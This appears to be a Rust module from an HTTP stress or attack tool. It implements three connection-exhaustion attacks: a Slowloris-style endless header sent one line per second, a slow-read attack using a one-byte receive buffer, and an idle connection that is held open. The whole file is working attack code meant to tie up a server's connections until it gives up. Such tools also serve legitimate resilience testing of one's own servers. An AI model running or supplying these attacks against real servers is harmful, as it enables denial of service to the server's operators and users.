//! Attacks that hold connections: with heads that never end, with bodies that are hardly read, or
//! with nothing at all. Each lasts until the server has had enough, which is an error.

use super::{Attacker, Stroke};
use crate::{
    kit::head,
    visitor::{connect, receive},
};
use std::{io, time::Duration};
use tokio::{
    io::AsyncWriteExt,
    net::TcpSocket,
    time::{sleep, timeout},
};

const EVERY: Duration = Duration::from_secs(1);
/// The kernel makes the smallest of it that it has.
const SMALL_BUFFER: u32 = 1;
const MORSEL: usize = 64;
const CONNECT_LIMIT: Duration = Duration::from_secs(10);

/// A line of a head every second.
pub fn slow_heads(attacker: Attacker) -> Stroke {
    Box::pin(async move {
        let mut socket = connect(attacker.target.server).await?;
        let first = format!("GET {} HTTP/1.1\r\nHost: x\r\n", attacker.target.known.path);
        socket.write_all(first.as_bytes()).await?;
        loop {
            attacker.strike();
            // What comes instead of time passing is the server's last word.
            if let Ok(said) = timeout(EVERY, receive(&socket, MORSEL, |_| Ok(()))).await {
                said?;
                return Err(io::ErrorKind::ConnectionAborted.into());
            }
            socket.write_all(b"X-Line: more\r\n").await?;
        }
    })
}

/// A whole object, a morsel of it every second.
pub fn slow_reads(attacker: Attacker) -> Stroke {
    Box::pin(async move {
        let target = &attacker.target;
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(SMALL_BUFFER)?;
        let mut socket = timeout(CONNECT_LIMIT, socket.connect(target.server)).await??;
        let request = head::request(target.server, &target.known.path, None);
        socket.write_all(request.as_bytes()).await?;
        loop {
            attacker.strike();
            if receive(&socket, MORSEL, |_| Ok(())).await? == 0 {
                return Err(io::ErrorKind::ConnectionAborted.into());
            }
            sleep(EVERY).await;
        }
    })
}

/// A connection and nothing on it.
pub fn idle(attacker: Attacker) -> Stroke {
    Box::pin(async move {
        let socket = connect(attacker.target.server).await?;
        attacker.strike();
        loop {
            socket.readable().await?;
            let mut byte = [0];
            match socket.try_read(&mut byte) {
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
                Ok(_) => return Err(io::ErrorKind::ConnectionAborted.into()),
            }
        }
    })
}
